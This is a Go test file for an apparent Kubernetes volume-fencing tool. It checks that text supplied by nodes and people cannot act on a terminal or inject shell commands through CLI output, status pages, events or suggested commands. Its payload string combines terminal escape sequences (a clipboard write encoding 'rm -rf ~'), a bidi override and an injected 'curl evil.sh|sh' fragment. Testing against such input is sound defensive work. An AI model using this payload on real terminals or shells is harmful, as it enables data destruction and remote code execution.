package kubeapi

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"google.golang.org/grpc/status"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	"github.com/csi-fencepost/csi-fencepost/fence/record"
	"github.com/csi-fencepost/csi-fencepost/sanity/array"
	"github.com/csi-fencepost/csi-fencepost/sanity/bed"
)

// Kubelets, tenants, drivers and people write words that a terminal would act on, and that a shell
// would run, and the API server takes them. In all that is shown of them they are no more than text,
// and none is run by whoever pastes the commands that explain has for him.
func TestNoWordOfOthersActsOnATerminalOrRunsInAShell(t *testing.T) {
	const evil = "\x1b]52;c;cm0gLXJmIH4=\a\x1b[2J\u009b\u202e;curl${IFS}evil.sh|sh;`curl`"
	const shown = "]52;c;cm0gLXJmIH4="
	r := newRigWithout(t, "words", bed.StageOptions{FencepostArgs: withHTTP})
	handle := "vol-of-words" + evil
	r.must(r.Array.CreateVolume(handle, array.VolumeOptions{}))
	v := r.Volume("v", bed.VolumeOptions{Handle: handle})
	old, target := r.nodeCalled(r.Name+"-old", "id-old"+evil), r.node("target")
	boot, err := json.Marshal(map[string]any{"status": map[string]any{"nodeInfo": map[string]string{"bootID": "boot" + evil, "systemUUID": "uuid" + evil}}})
	r.must(err)
	_, err = old.as().CoreV1().Nodes().Patch(r.ctx(), old.name, types.StrategicMergePatchType, boot, metav1.PatchOptions{}, "status")
	r.must(err) // Kubernetes lets a kubelet say so
	old.boot = "boot" + evil
	old.renew()
	p := r.start("fp")
	r.proxy = r.dial("fp")
	r.attach(v, old)
	r.attachment(v, target)
	_, err = r.records().Confirm(r.ctx(), old.name, record.Confirmation{By: "ann" + evil, Reason: "unplugged" + evil,
		Machines: []record.Machine{{NodeID: old.id, NodeUID: old.uid, BootID: old.boot, LeaseRV: old.leaseRV()}}})
	r.must(err)
	old.renew() // so that it proves nothing

	texts := map[string]string{}
	look := func(when string) {
		t.Helper()
		err := r.publish(v.Handle, target)
		if err == nil {
			t.Fatalf("%s: it is published elsewhere", when)
		}
		texts[when+"refusal"] = status.Convert(err).Message()
		for name, args := range map[string][]string{
			"explain pv": {"explain", "pv", v.Name}, "explain pv -o json": {"explain", "pv", v.Name, "-o", "json"}, "explain pv -o yaml": {"explain", "pv", v.Name, "-o", "yaml"},
			"explain node": {"explain", "node", old.name}, "fence status": {"fence", "status", old.name}, "fence status -o json": {"fence", "status", old.name, "-o", "json"},
			"ledger export": {"ledger", "export"}, "doctor": {"doctor", "node/" + old.name},
		} {
			a := execute(t, r.Bed.Fencepost, append(args, "--kubeconfig="+r.Bed.Cluster.AdminKubeconfig())...)
			texts[when+name] = a.stdout + a.stderr
		}
		for _, path := range []string{"/statusz", "/statusz.json", "/readyz", "/metrics"} {
			_, texts[when+path] = r.HTTP(p, path)
		}
	}
	look("it lives: ")
	old.delete()
	r.settle()
	look("its Node is gone: ")
	old.boot = "boot of another machine" + evil
	old.registersAgain()
	old.status(func(s *corev1.NodeStatus) { s.NodeInfo.SystemUUID = "another" })
	r.settle()
	look("another machine has its name: ")
	texts["Event"] = r.WaitEvent("PersistentVolume", v.Name, 20*time.Second, shown)
	texts["log"] = r.LogOf(p)

	for name, text := range texts {
		if i := strings.IndexFunc(text, func(c rune) bool { return !unicode.IsPrint(c) && c != '\n' && c != '\t' }); i >= 0 {
			t.Errorf("%s: a terminal would act on %q", name, text[max(0, i-40):min(len(text), i+40)])
		}
		if !strings.Contains(text, shown) && !slices.ContainsFunc([]string{"/readyz", "/metrics", "doctor", "refusal"}, func(end string) bool { return strings.HasSuffix(name, end) }) {
			t.Errorf("%s shows nothing of it:\n%s", name, text)
		}
	}
	runsNothing(t, texts["another machine has its name: explain pv -o json"], shown)
}

// runsNothing pastes the commands of an explanation into a shell that has none of the programs. One
// of them at least has to name what others wrote.
func runsNothing(t *testing.T, explanation, names string) {
	t.Helper()
	var e struct {
		Decision struct{ Unblock []struct{ Commands []string } }
	}
	must(t, json.Unmarshal([]byte(explanation), &e))
	folder, all := t.TempDir(), ""
	ran := filepath.Join(folder, "ran")
	for program, does := range map[string]string{"csi-fencepost": ":", "kubectl": ":", "curl": ": >" + ran, "sh": ": >" + ran} {
		must(t, os.WriteFile(filepath.Join(folder, program), []byte("#!/bin/sh\n"+does+"\n"), 0o755))
	}
	for _, way := range e.Decision.Unblock {
		for _, command := range way.Commands {
			all += command + "\n"
			c := exec.CommandContext(t.Context(), "/bin/sh", "-c", command)
			c.Env = []string{"PATH=" + folder}
			out, _ := c.CombinedOutput() // what is in capitals is for a person to fill in
			if _, err := os.Stat(ran); err == nil {
				t.Fatalf("a shell runs more than one command of %s\n%s", command, out)
			}
		}
	}
	if !strings.Contains(strings.ReplaceAll(all, `\`, ""), names) {
		t.Errorf("no command names what others wrote, so that nothing is shown:\n%s", all)
	}
}
